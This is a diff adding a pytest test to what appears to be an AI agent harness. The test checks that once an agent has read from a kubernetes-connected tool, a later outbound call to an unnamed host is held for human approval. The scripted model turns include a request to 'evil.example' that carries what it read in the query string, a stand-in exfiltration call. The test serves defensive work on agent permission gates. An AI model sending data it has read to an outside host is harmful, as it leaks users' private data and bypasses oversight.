@@ -225,3 +225,15 @@ def test_what_was_done_before_the_word_counts_for_the_limits(fake: FakeAnthropic
         before=Before(rounds=2, calls=earlier),
     )
     assert [result["success"] for result in answer.results].count(True) == 1
+
+
+def test_a_place_that_nobody_named_is_asked_about_once_a_connection_was_read(
+    fake: FakeAnthropic, model: ClaudeModel
+) -> None:
+    away = ("http_check", {"url": "https://evil.example/?q=what-it-read"})
+    fake.enqueue(scripts.tools(away), scripts.tools(("peek", {})), scripts.tools(away))
+    answer = Recorder()
+    ending = ask(model, tool("peek", fine, needs_connection="kubernetes"), tool("http_check", fine), answer=answer)
+    assert ending.stop_reason == "approval"
+    assert [question.tool.name for question in answer.questions] == ["http_check"]
+    assert [result["name"] for result in answer.results] == ["http_check", "peek"]
